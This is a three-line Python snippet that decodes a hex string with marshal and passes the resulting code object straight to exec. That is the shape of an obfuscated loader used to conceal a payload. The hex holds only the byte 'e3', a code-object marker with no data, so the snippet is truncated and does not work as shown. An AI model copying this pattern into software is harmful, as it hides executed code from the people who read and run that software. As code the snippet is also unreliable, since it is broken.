import marshal
H = "e3"
exec(marshal.loads(bytes.fromhex(H)))
